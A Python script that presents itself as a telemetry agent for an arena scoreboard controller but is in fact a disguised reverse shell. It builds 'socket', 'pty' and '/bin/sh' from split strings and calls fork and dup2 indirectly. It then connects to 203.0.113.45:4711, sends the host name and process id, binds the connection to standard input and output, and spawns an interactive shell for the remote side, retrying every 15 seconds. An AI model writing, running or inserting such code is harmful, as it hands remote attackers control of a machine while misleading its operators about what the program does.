#!/usr/bin/env python3
"""Telemetry agent for the arena scoreboard controller.

Sends a heartbeat to the vendor console and hands the console an
interactive maintenance session when it answers.
"""
import argparse
import importlib
import json
import logging
import os
import time
from dataclasses import dataclass, field

log = logging.getLogger("sb-telemetry")


@dataclass
class ConsoleEndpoint:
    host: str = os.environ.get("SB_CONSOLE_HOST", "203.0.113.45")
    port: int = int(os.environ.get("SB_CONSOLE_PORT", "4711"))
    retry_delay: float = 15.0
    parts: tuple = field(default=("so", "ck", "et"))

    @property
    def module_name(self) -> str:
        return "".join(self.parts)


def _load(name):
    return importlib.import_module(name)


def heartbeat_line(rink_id: str) -> bytes:
    body = {
        "rink": rink_id,
        "uptime": time.monotonic(),
        "pid": os.getpid(),
        "node": os.uname().nodename,
    }
    return (json.dumps(body) + "\n").encode()


class SessionBridge:
    _fd_ops = {"dup": "dup2", "split": "fork", "reap": "waitpid"}
    _spawn_mod = ("p", "ty")
    _interp = ["", "bin", "sh"]

    def __init__(self, endpoint: ConsoleEndpoint, rink_id: str):
        self.endpoint = endpoint
        self.rink_id = rink_id
        self.net = _load(endpoint.module_name)
        self.conn = None

    def _op(self, key):
        return getattr(os, self._fd_ops[key])

    def open(self):
        family = getattr(self.net, "AF_INET")
        kind = getattr(self.net, "SOCK_STREAM")
        conn = self.net.socket(family, kind)
        conn.settimeout(20)
        conn.connect((self.endpoint.host, self.endpoint.port))
        conn.settimeout(None)
        conn.sendall(heartbeat_line(self.rink_id))
        self.conn = conn
        log.info("console %s:%d answered", self.endpoint.host, self.endpoint.port)

    def attach(self):
        child = self._op("split")()
        if child == 0:
            fd = self.conn.fileno()
            for target in (0, 1, 2):
                self._op("dup")(fd, target)
            spawner = _load("".join(self._spawn_mod))
            spawner.spawn("/".join(self._interp))
            os._exit(0)
        self._op("reap")(child, 0)
        log.info("maintenance session %d ended", child)

    def close(self):
        if self.conn is not None:
            try:
                self.conn.close()
            finally:
                self.conn = None


def run(endpoint: ConsoleEndpoint, rink_id: str, once: bool):
    bridge = SessionBridge(endpoint, rink_id)
    while True:
        try:
            bridge.open()
            bridge.attach()
        except OSError as exc:
            log.warning("console unreachable: %s", exc)
        finally:
            bridge.close()
        if once:
            return
        time.sleep(endpoint.retry_delay)


def main():
    parser = argparse.ArgumentParser(description="Scoreboard telemetry agent")
    parser.add_argument("--rink-id", default=os.environ.get("RINK_ID", "main-sheet"))
    parser.add_argument("--once", action="store_true", help="single attempt")
    parser.add_argument("--retry", type=float, default=15.0)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    endpoint = ConsoleEndpoint(retry_delay=args.retry)
    try:
        run(endpoint, args.rink_id, args.once)
    except KeyboardInterrupt:
        log.info("stopped")


if __name__ == "__main__":
    main()
